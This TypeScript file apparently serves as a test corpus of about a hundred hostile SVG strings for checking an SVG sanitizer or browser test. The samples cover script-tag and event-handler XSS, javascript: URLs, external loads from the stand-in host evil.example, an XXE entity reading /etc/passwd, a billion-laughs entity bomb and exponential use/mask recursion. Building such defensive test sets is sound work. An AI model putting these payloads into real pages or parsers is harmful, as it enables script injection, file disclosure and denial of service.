/**
 * A hundred SVGs that want to be more than a drawing: scripts, handlers, foreign content, addresses, styles that load, animations that set
 * what they may not, entities, and files that grow without end. Families as in the OWASP XSS filter evasion cheat sheet and the SVG parts
 * of the HTML5 security cheat sheet. Each calls `alert` or asks `evil.example` for something, so that a browser test notices what runs.
 */
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const square = '<rect width="10" height="10" fill="#0a7a48"/>';

/** A drawing with something more in it. */
const within = (more: string, root = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${xlink} viewBox="0 0 10 10"${root}>${square}${more}</svg>`;
/** A drawing whose one element has something more. */
const having = (more: string, name = 'rect') => within(`<${name} width="5" height="5" ${more}/>`);

const scripts = [
  '<script>alert(1)</script>',
  '<script type="text/javascript">alert(1)</script>',
  '<script><![CDATA[alert(1)]]></script>',
  '<script href="https://evil.example/x.js"/>',
  '<script xlink:href="https://evil.example/x.js"/>',
  '<script xlink:href="data:text/javascript,alert(1)"/>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<g><script>alert(1)</script></g>',
  '<defs><script>alert(1)</script></defs>',
  '<switch><script>alert(1)</script></switch>',
  '<a><script>alert(1)</script></a>',
  '<text>a<script>alert(1)</script></text>',
  '<title><script>alert(1)</script></title>',
  '<desc><script>alert(1)</script></desc>',
  '<metadata><script>alert(1)</script></metadata>',
  '<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">alert(1)</handler>',
  '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<scr&#105;pt>alert(1)</scr&#105;pt>',
].map((more) => within(more));

const handlers = [
  'onload="alert(1)"',
  'onclick="alert(1)"',
  'onmouseover="alert(1)"',
  'onfocus="alert(1)" tabindex="0" autofocus="autofocus"',
  'onfocusin="alert(1)"',
  'onbegin="alert(1)"',
  'ONLOAD="alert(1)"',
  'onerror="alert(1)"',
  'on&#108;oad="alert(1)"',
  'fill="&quot; onload=&quot;alert(1)"',
  `id='"><script>alert(1)</script>'`,
  'class="&lt;script&gt;alert(1)&lt;/script&gt;"',
].map((more) => having(more));

const foreign = [
  '<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>',
  '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example"><input name="n"/></form></foreignObject>',
  '<switch><foreignObject requiredExtensions="x"><script>alert(1)</script></foreignObject></switch>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<embed xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x"/>',
  '<object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example/x"/>',
  '<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x" onerror="alert(1)"/>',
  '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>',
  '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
  '<base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example/"/>',
  '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x:html>',
].map((more) => within(more));

const addresses = [
  '<a href="javascript:alert(1)"><rect width="5" height="5"/></a>',
  '<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>',
  '<a href="java&#10;script:alert(1)"><text y="5">x</text></a>',
  '<a href="https://evil.example/" target="_top"><rect width="10" height="10"/></a>',
  '<image href="https://evil.example/x.png" width="5" height="5"/>',
  '<image xlink:href="//evil.example/x.png" width="5" height="5"/>',
  '<image href="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/&gt;" width="5" height="5"/>',
  '<feImage xlink:href="https://evil.example/x.png"/>',
  '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect width="5" height="5" filter="url(#f)"/>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgb25sb2FkPSJhbGVydCgxKSIvPg==#a"/>',
  '<use href="javascript:alert(1)"/>',
  '<use href="//evil.example/x.svg#a"/>',
  '<linearGradient id="g" href="https://evil.example/x.svg#g"/><rect width="5" height="5" fill="url(#g)"/>',
  '<rect width="5" height="5" fill="url(https://evil.example/x.svg#g)"/>',
  '<rect width="5" height="5" fill="url(&quot;//evil.example/x.svg#g&quot;)"/>',
  '<rect width="5" height="5" mask="url(https://evil.example/x.svg#m)"/>',
  '<rect width="5" height="5" clip-path="url(data:image/svg+xml,x#c)"/>',
  '<rect width="5" height="5" marker-start="url(https://evil.example/x.svg#m)"/>',
  '<rect width="5" height="5" filter="url(https://evil.example/x.svg#f)"/>',
  '<rect width="5" height="5" cursor="url(https://evil.example/x.cur)"/>',
  '<rect width="5" height="5" fill="u\\72l(https://evil.example/x)"/>',
  '<font-face><font-face-src><font-face-uri xlink:href="https://evil.example/x"/></font-face-src></font-face>',
  '<tref xlink:href="https://evil.example/x#a"/>',
].map((more) => within(more));

const styles = [
  '<style>@import url(https://evil.example/x.css);</style>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<style>@font-face{font-family:x;src:url(https://evil.example/x)}text{font-family:x}</style><text y="5">x</text>',
  '<style>rect{fill:url(https://evil.example/x.svg#g)}</style>',
  '<style>rect{background:url(https://evil.example/x)}</style>',
  '<style>rect{cursor:url(https://evil.example/x),auto}</style>',
  '<style>rect{behavior:url(https://evil.example/x)}</style>',
  '<style>rect{-moz-binding:url(https://evil.example/x#y)}</style>',
  '<style>rect{width:expression(alert(1))}</style>',
  '<style>/*</style><script>alert(1)</script>*/</style>',
  '<style>rect{fill:\\75rl(https://evil.example/x)}</style>',
  '<style>@media all{@import url(https://evil.example/x);rect{fill:url(https://evil.example/x)}}</style>',
  '<style>:root{--x:url(https://evil.example/x)}rect{fill:var(--x)}</style>',
  '<rect width="5" height="5" style="fill:url(https://evil.example/x#y)"/>',
  '<rect width="5" height="5" style="background-image:image-set(&quot;https://evil.example/x&quot; 1x)"/>',
  '<style xmlns="http://www.w3.org/1999/xhtml">@import url(https://evil.example/x.css);</style>',
].map((more) => within(more));

const animations = [
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="5" height="5"/></a>',
  '<a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="5" height="5"/></a>',
  '<set attributeName="onload" to="alert(1)"/>',
  '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
  '<animateMotion onend="alert(1)" dur="1s" path="M0 0h1"/>',
].map((more) => within(more));

/** Files that are not well formed, that declare what they need not, or that grow. */
const laughs = Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY l${n + 1} "&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};&l${n};">`,
).join('');
const doubled = (element: (n: number) => string) => Array.from({ length: 40 }, (_, n) => element(n + 1)).join('');
const whole = [
  `<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&l9;</text></svg>`,
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&x;</text></svg>',
  within(
    doubled((n) => `<g id="a${n}"><use href="#a${n - 1}"/><use href="#a${n - 1}"/></g>`) +
      '<g id="a0"/><use href="#a40"/>',
  ),
  within('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  within(
    doubled((n) => `<mask id="m${n}"><g mask="url(#m${n - 1})"/><g mask="url(#m${n - 1})"/></mask>`) +
      having('mask="url(#m40)"'),
  ),
  '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>',
];

export const hostileSvgs: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...addresses,
  ...styles,
  ...animations,
  ...whole,
];
